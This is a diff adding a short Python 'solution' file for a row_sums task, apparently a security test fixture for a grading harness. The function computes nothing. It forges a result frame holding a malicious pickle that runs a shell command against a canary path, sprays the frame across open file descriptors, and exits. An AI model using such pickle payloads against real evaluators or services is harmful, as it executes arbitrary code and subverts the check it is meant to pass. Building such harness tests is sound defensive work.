@@ -1,0 +1,25 @@
+# %% solution="row_sums"
+import json
+import os
+
+
+def frame(text, body=b""):
+    data = text.encode()
+    return len(data).to_bytes(4, "big") + len(body).to_bytes(4, "big") + data + body
+
+
+def send(data):
+    for descriptor in range(3, 256):
+        try:
+            while data:
+                data = data[os.write(descriptor, data) :]
+            return
+        except OSError:
+            pass
+
+
+def row_sums(xs):
+    pickle = b"cposix\nsystem\n(S'touch @CANARY@/frame_with_a_pickle'\ntR."
+    case = {"structure": "PyTreeDef(*)", "paths": [""], "length": len(pickle), "jax": "0.4"}
+    send(frame(json.dumps({"end": "row_sums", "cases": [case] * 2, "arrays": []}), pickle * 2))
+    os._exit(0)
